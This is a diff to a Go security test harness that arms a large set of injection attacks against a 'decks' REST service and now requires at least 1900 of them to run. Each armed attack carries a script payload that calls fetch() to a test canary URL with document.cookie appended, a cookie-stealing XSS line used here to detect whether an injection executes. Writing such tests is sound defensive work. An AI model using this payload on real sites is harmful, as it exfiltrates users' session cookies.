@@ -41,7 +41,7 @@ func enter(t *testing.T) *arena {
 	a.s = resttest.Start(t, resttest.Config{Ops: decks.Ops, Repo: decks.Listen, Rest: func(c *rest.Config) { c.Limits.Rate = -1 }})
 	a.s.User("alice")
 	account(t, a.s, "alice", "pro", "", 0)
-	for i, attack := range decktest.Some(decktest.Attacks()) {
+	for i, attack := range decktest.Attacks() {
 		script := fmt.Sprintf("self.HIT%[1]d=1;top.postMessage('HIT%[1]d','*');fetch('%[2]s/script/%[1]d?'+document.cookie)", i, a.canary.URL)
 		a.armed = append(a.armed, decktest.Arm(attack, script, fmt.Sprintf("%s/%d", a.canary.URL, i)))
 	}
@@ -118,7 +118,7 @@ func (a *arena) keep(t *testing.T) (kept []string) {
 		}
 	}
 	t.Logf("%d attacks, %d refused", len(a.armed), refused)
-	if len(a.armed) < 1900/4 || len(kept) < len(a.armed)/2 {
+	if len(a.armed) < 1900 || len(kept) < len(a.armed)/2 {
 		t.Fatalf("%d attacks, %d kept: the test does not test much", len(a.armed), len(kept))
 	}
 	return kept
